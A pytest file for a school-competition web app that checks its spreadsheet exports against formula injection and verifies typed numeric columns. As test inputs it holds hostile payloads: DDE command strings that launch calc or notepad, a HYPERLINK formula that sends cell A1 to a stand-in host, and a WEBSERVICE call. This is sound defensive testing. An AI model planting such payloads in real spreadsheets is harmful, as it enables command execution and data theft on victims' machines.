"""Every xlsx export, opened with openpyxl (R-XLS-1, R-PUB-1): user text never a formula, numbers typed.

A small city is built with hostile strings in every user-text field that reaches an export (school,
district, teacher and judge names, objection reasons and filers, announcements, notes, exemption
grounds, audit reasons). Every ``.xlsx`` endpoint of the app's url_map is requested as a role that
may download it; a new export without an entry in ``EXPORTS`` fails ``test_every_export_is_covered``.
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from types import SimpleNamespace

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app.audit import services as audit
from app.awards.models import AwardRelease
from app.competitions.models import StageKind
from app.extensions import db
from app.judging import services as judging
from app.public import services as public
from app.public.models import ObjectionStatus
from app.rosters import importer
from app.rosters import services as rosters
from app.rosters.models import Entry, ExemptionReason
from app.web.xlsx import FORMULA_TRIGGERS, Column, Table, xlsx_bytes
from tests.advancement.helpers import freeze_and_confirm, world
from tests.awards.helpers import stub_results
from tests.judging.helpers import preliminary_panel, values
from tests.public.helpers import listed

# The payloads of issue 12 and OWASP's trigger characters (= + - @ tab CR), one per field.
HOSTILE = {
    "school": '=HYPERLINK("http://x","点此")',
    "district": "@SUM(A1:A9)",
    "teacher": "=cmd|' /C calc'!A0",
    "judge": "+cmd|' /C calc'!A0",
    "reason": '=HYPERLINK("http://x/?d="&A1,"点此")',
    "filer": "-2+3+cmd|' /C calc'!A0",
    "title": "=1+1",
    "body": '\t=WEBSERVICE("http://x")',
    "note": "\r=2+2",
    "detail": "@cmd|' /C calc'!A0",
    "audit": "=cmd|' /C notepad'!A0",
    "item": "=SUM(1,2)",
}


@dataclass(frozen=True)
class Export:
    """How to download one export, what hostile text it must carry, which columns are typed."""

    who: str
    url: object  # (town) -> str
    carries: tuple[str, ...] = ()
    typed: dict[str, str] | None = None  # header -> int | score | ratio | date


def _plant(city) -> None:
    city.central.name = HOSTILE["school"]
    city.d1.name = HOSTILE["district"]
    city.judge.display_name = HOSTILE["judge"]


@pytest.fixture
def town(city, monkeypatch):
    """One competition per domain's helper, all in the same hostile city, committed."""
    _plant(city)
    db.session.flush()
    # judging: a preliminary panel with every judge's sheet for the first teacher
    s = preliminary_panel(city)
    s.entries[0].name = HOSTILE["teacher"]
    s.panel.room = HOSTILE["note"]
    s.panel.form.items[0].name = HOSTILE["item"]  # a score form's item names are a school's text
    for judge, scores in zip(s.judges, (("90", "85", "88", "86"), ("80", "80", "80", "80"), ("85",) * 4)):
        judging.submit_sheet(s.appearance(0), judge, values(s.panel, *scores), version=None, editor="x")
    # public: an open listing with a note, an objection (resolved with a note), an announcement
    w = listed(city)
    teacher = w.entries["central"][0]
    teacher.name = HOSTILE["teacher"]
    w.listing.note = HOSTILE["note"]
    objection = public.file_objection(
        w.preliminary,
        teacher,
        reason=HOSTILE["reason"],
        filer_name=HOSTILE["filer"],
        filer_phone="13900001111",
    )
    public.resolve_objection(
        objection, by=city.district_admin, outcome=ObjectionStatus.DISMISSED, note="-驳回"
    )
    announcement = public.save_announcement(
        w.competition, None, by=city.city_admin, title=HOSTILE["title"], body="x"
    )
    announcement.body = HOSTILE["body"]
    exempt = rosters.apply_exemption(
        city.school_admin, w.entries["central"][1], reason=ExemptionReason.HEALTH, detail=HOSTILE["detail"]
    )
    exempt.school_note = HOSTILE["note"]
    w.entries["central"][2].status_reason = HOSTILE["note"]
    audit.record(city.city_admin, "test.hostile", "entry", teacher.id, "+计划", reason=HOSTILE["audit"])
    db.session.commit()
    # advancement: the semifinal quotas frozen, the central unit recommended and confirmed
    a = world(city)
    a.entries["central"][0].name = HOSTILE["teacher"]
    db.session.commit()
    unit = freeze_and_confirm(a, city, city.central)
    # awards: a semifinal of 东山县 with stubbed results, published by the district
    a.competition.stage(StageKind.PRELIMINARY).deadline = date(2099, 12, 31)
    stub_results(monkeypatch, {e.id: str(95 - i) for i, e in enumerate(_semifinalists(a))})
    db.session.commit()
    return SimpleNamespace(city=city, judging=s, listed=w, advancement=a, unit=unit)


def _semifinalists(a) -> list[Entry]:
    from app.rosters.models import StageEntrant

    return list(
        db.session.scalars(
            sa.select(Entry)
            .join(StageEntrant, StageEntrant.entry_id == Entry.id)
            .where(StageEntrant.stage_id == a.semifinal.id)
        )
    )


def _release(client, login, t) -> str:
    login(t.city.district_admin)
    r = client.post(
        f"/awards/{t.advancement.competition.id}/publish/semifinal",
        data={"district_id": t.city.d1.id, "confirm": "1"},
    )
    assert r.status_code in (200, 303), r.get_data(as_text=True)[:500]
    release = db.session.scalars(sa.select(AwardRelease)).first()
    assert release is not None, "the semifinal list was not published"
    return f"/awards/releases/{release.id}/export.xlsx"


SCORE, RATIO, INT, DATE = "score", "ratio", "int", "date"

EXPORTS: dict[str, list[Export]] = {
    "orgs.schools_xlsx": [Export("city_admin", lambda t: "/admin/schools.xlsx", ("school", "district"))],
    "orgs.schools_template": [Export("city_admin", lambda t: "/admin/schools/template.xlsx")],
    "audit.export": [Export("city_admin", lambda t: "/audit.xlsx", ("audit", "judge"))],
    "competitions.index_xlsx": [
        Export("city_admin", lambda t: "/competitions.xlsx", (), {"年度": INT, "初赛截止": DATE})
    ],
    "competitions.rules_xlsx": [
        Export("city_admin", lambda t: f"/competitions/{t.listed.competition.id}/rules.xlsx")
    ],
    "rosters.dashboard_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/rosters/{t.listed.competition.id}/dashboard.xlsx",
            ("school", "district"),
            {"名单人数": INT, "参赛": INT, "参赛率": RATIO},
        )
    ],
    "rosters.roster_xlsx": [
        Export(
            "school_admin",
            lambda t: f"/rosters/{t.listed.competition.id}/schools/{t.city.central.id}.xlsx",
            ("teacher", "note"),
            {"参赛编号": INT, "出生日期": DATE},
        )
    ],
    "rosters.template": [
        Export(
            "school_admin",
            lambda t: f"/rosters/{t.listed.competition.id}/schools/{t.city.central.id}/template.xlsx",
            (),
            {"获奖年份": INT},
        )
    ],
    "rosters.exemptions_xlsx": [
        Export(
            "district_admin",
            lambda t: f"/rosters/{t.listed.competition.id}/exemptions.xlsx",
            ("school", "detail", "note"),
            {"参赛编号": INT, "出生日期": DATE, "登记时间": DATE},
        )
    ],
    "judging.index_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/judging/panels.xlsx?competition={t.judging.competition.id}",
            ("note",),
            {"评委数": INT, "选手数": INT, "已提交评分表": INT, "应交评分表": INT},
        )
    ],
    "judging.panel_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/judging/panels/{t.judging.panel.id}/sheets.xlsx",
            ("teacher", "school", "judge", "item"),
            {"出场序号": INT, "评委总分": SCORE, "最后得分": SCORE},
        )
    ],
    "judging.spread_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/judging/panels/{t.judging.panel.id}/spread.xlsx",
            ("judge",),
            {"已提交": INT, "平均分": SCORE, "平均偏差": SCORE},
        )
    ],
    "advancement.summary_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/advancement/summary.xlsx?competition={t.advancement.competition.id}",
            ("district",),
            {"复赛参赛人数": INT, "决赛名额": INT},
        )
    ],
    "advancement.quotas_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/advancement/stages/{t.advancement.semifinal.id}/quotas.xlsx",
            ("school", "district"),
            {"参赛人数": INT, "比例": RATIO, "名额（精确值）": SCORE, "名额": INT},
        )
    ],
    "advancement.unit_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/advancement/units/{t.unit.id}.xlsx",
            ("teacher", "school"),
            {"参赛号": INT},
        )
    ],
    "advancement.shortlist_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/advancement/stages/{t.advancement.semifinal.id}/shortlist.xlsx",
            ("school",),
            {"参赛号": INT},
        )
    ],
    "public_admin.listings_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/admin/public/listings.xlsx?competition={t.listed.competition.id}",
            ("note",),
            {"开始日期": DATE, "结束日期": DATE, "天数": INT},
        )
    ],
    "public_admin.announcements_xlsx": [
        Export(
            "city_admin",
            lambda t: f"/admin/public/announcements.xlsx?competition={t.listed.competition.id}",
            ("title", "body"),
            {"发布时间": DATE},
        )
    ],
    "public_admin.objections_xlsx": [
        Export(
            "district_admin",
            lambda t: f"/admin/public/objections.xlsx?competition={t.listed.competition.id}",
            ("reason", "filer", "teacher", "school"),
            {"提交时间": DATE, "处理时间": DATE},
        )
    ],
    "awards.preview_xlsx": [
        Export(
            "district_admin",
            lambda t: f"/awards/{t.advancement.competition.id}/export/semifinal.xlsx",
            ("school",),
            {"名次": INT, "编号": INT, "成绩": SCORE},
        ),
        Export(
            "city_admin",
            lambda t: f"/awards/{t.advancement.competition.id}/export/team.xlsx",
            ("school", "district"),
            {"参赛人数": INT, "获奖比例": RATIO, "参赛率": RATIO},
        ),
        Export(
            "city_admin",
            lambda t: f"/awards/{t.advancement.competition.id}/export/organisation.xlsx",
            ("school", "district"),
            {"参赛人数": INT, "参赛率": RATIO, "异议成立": INT},
        ),
    ],
    "awards.release_xlsx": [
        Export("district_admin", "release", ("school", "district"), {"名次": INT, "成绩": SCORE}),
    ],
}


def _xlsx_endpoints(app) -> set[str]:
    return {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".xlsx")}


def test_every_export_is_covered(app):
    """R-XLS-1: each .xlsx endpoint of the url_map is opened below; a new one must be added here."""
    assert _xlsx_endpoints(app) == set(EXPORTS)


# Text that only a number should be: "86.00", "0.3000", "30.00%" written as strings (issue 12).
_FIGURE_AS_TEXT = re.compile(r"^[+-]?\d+\.\d+%?$")


def _check_sheet(data: bytes, spec: Export, where: str) -> list[str]:
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows())
    assert len(rows) >= 2, f"{where}: no data rows"
    headers = [c.value for c in rows[0]]
    texts = []
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", f"{where} {cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                texts.append(cell.value)
                if cell.value.startswith((*FORMULA_TRIGGERS, "\n")):
                    assert cell.quotePrefix, f"{where} {cell.coordinate} {cell.value!r} is not marked as text"
                assert not _FIGURE_AS_TEXT.match(cell.value), f"{where} {cell.coordinate}: a figure as text"
    for header, kind in (spec.typed or {}).items():
        assert header in headers, f"{where}: no column {header}"
        column = [r[headers.index(header)] for r in rows[1:]]
        filled = [c for c in column if c.value is not None and c.value not in ("未定", "未提交")]
        assert filled, f"{where}: column {header} is empty in the test data"
        for c in filled:
            if kind == INT:
                assert isinstance(c.value, int) and c.data_type == "n", (where, header, c.value)
            elif kind == SCORE:
                assert c.data_type == "n" and not isinstance(c.value, bool), (where, header, c.value)
                assert c.number_format in ("0.00", "+0.00;-0.00;0.00", "General"), (where, header)
            elif kind == RATIO:
                assert c.data_type == "n" and c.number_format.endswith("%"), (where, header, c.number_format)
            elif kind == DATE:
                assert c.is_date and isinstance(c.value, datetime), (where, header, c.value)
    return texts


def test_every_export_is_formula_safe_and_typed_r_xls_1(client, login, town):
    """R-XLS-1: no cell of any export is a formula, hostile text is kept as text, figures are numbers."""
    for endpoint, specs in EXPORTS.items():
        for spec in specs:
            url = _release(client, login, town) if spec.url == "release" else spec.url(town)
            login(getattr(town.city, spec.who))
            response = client.get(url)
            assert response.status_code == 200, f"{endpoint} {url}: {response.status_code}"
            assert response.mimetype.endswith("spreadsheetml.sheet")
            texts = _check_sheet(response.data, spec, f"{endpoint} {url}")
            for key in spec.carries:
                # XML turns a CR into LF on reading; the cell is still marked as text
                expected = HOSTILE[key].replace("\r", "\n")
                assert any(expected in t for t in texts), f"{endpoint}: {key} {expected!r} missing"


def test_a_hostile_name_survives_export_and_re_import_unchanged_r_ros_1(client, login, town):
    """The quote prefix is a cell style, not a character: the exported roster re-imports as it was."""
    w = town.listed
    login(town.city.school_admin)
    data = client.get(f"/rosters/{w.competition.id}/schools/{town.city.central.id}.xlsx").data
    ws = load_workbook(io.BytesIO(data)).active
    headers = [c.value for c in ws[1]]
    assert headers[: len(importer.HEADERS)] == importer.HEADERS
    name = next(r for r in ws.iter_rows(min_row=2) if r[0].value == HOSTILE["teacher"])[0]
    assert name.quotePrefix and name.data_type == "s"
    result = importer.import_roster(
        town.city.school_admin, w.competition, town.city.central, io.BytesIO(data)
    )
    # (the exempt and reasoned rows are re-derived by the importer; the names are what matter here)
    assert not result.added and HOSTILE["teacher"] not in result.changed


def test_table_columns_are_declared_once_and_typed():
    """A Column names header, value and kind; reordering columns moves header and values together."""
    rows = [SimpleNamespace(name="=1+1", score=Decimal("86.5"), n=3, share=Decimal("0.3000"))]
    table = Table(
        [
            Column("姓名", "name"),
            Column("成绩", "score", "score"),
            Column("人数", "n", "int"),
            Column("比例", "share", "ratio"),
        ]
    )
    reordered = Table(list(reversed(table.columns)))
    for t in (table, reordered):
        ws = load_workbook(io.BytesIO(t.xlsx("表", rows))).active
        cells = {h.value: c for h, c in zip(ws[1], ws[2])}
        assert cells["姓名"].value == "=1+1" and cells["姓名"].data_type == "s" and cells["姓名"].quotePrefix
        assert cells["成绩"].value == 86.5 and cells["成绩"].number_format == "0.00"
        assert cells["人数"].value == 3 and cells["人数"].data_type == "n"
        assert cells["比例"].value == 0.3 and cells["比例"].number_format == "0.00%"
    with pytest.raises(TypeError):
        Table([Column("成绩", "score", "score")]).xlsx("表", [SimpleNamespace(score="86.00")])


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=cmd|' /C calc'!A0"])
def test_owasp_trigger_characters_are_written_as_quoted_text_r_xls_1(text):
    """OWASP formula injection: a leading = + - @ tab or CR is stored as text with the apostrophe flag."""
    ws = load_workbook(io.BytesIO(xlsx_bytes("表", ["a", "b"], [[text, "普通文字"]]))).active
    quoted, plain = ws["A2"], ws["B2"]
    assert quoted.data_type == "s" and quoted.quotePrefix and quoted.value == text.replace("\r", "\n")
    assert plain.data_type == "s" and not plain.quotePrefix and plain.value == "普通文字"


def test_positional_sheets_are_typed_by_value_and_never_break_on_control_characters():
    """A bare header list still writes typed cells; NUL and other C0 controls are dropped, not a 500."""
    row = [Decimal("86.50"), 3, True, date(2026, 12, 2), datetime(2026, 12, 1, 16, 30), "#N/A", "a\x00b\x07c"]
    ws = load_workbook(io.BytesIO(xlsx_bytes("表", list("ABCDEFG"), [row]))).active
    score, count, flag, day, moment, error, control = ws[2]
    assert score.value == 86.5 and score.number_format == "0.00"
    assert count.value == 3 and count.data_type == "n"
    assert flag.value == "是"
    assert day.is_date and day.value == datetime(2026, 12, 2)
    assert moment.value == datetime(2026, 12, 2, 0, 30)  # stored UTC, written in Beijing time
    assert error.data_type == "s" and error.value == "#N/A"  # text, not an error cell
    assert control.value == "abc"


def test_the_shortlist_page_and_its_export_share_one_column_list_r_xls_1(client, login, town):
    """The page's header row is the export's (less the draw-record link column, a link on screen)."""
    login(town.city.city_admin)
    stage = town.advancement.semifinal.id
    html = client.get(f"/advancement/stages/{stage}/shortlist").get_data(as_text=True)
    page = re.findall(r"<th[^>]*>([^<]*)</th>", html.split("<thead>")[1].split("</thead>")[0])
    ws = load_workbook(io.BytesIO(client.get(f"/advancement/stages/{stage}/shortlist.xlsx").data)).active
    assert page == [c.value for c in ws[1]][:-1] == ["参赛号", "姓名", "学校", "学科", "组别", "晋级方式"]
    assert '<th class="num">参赛号</th>' in html
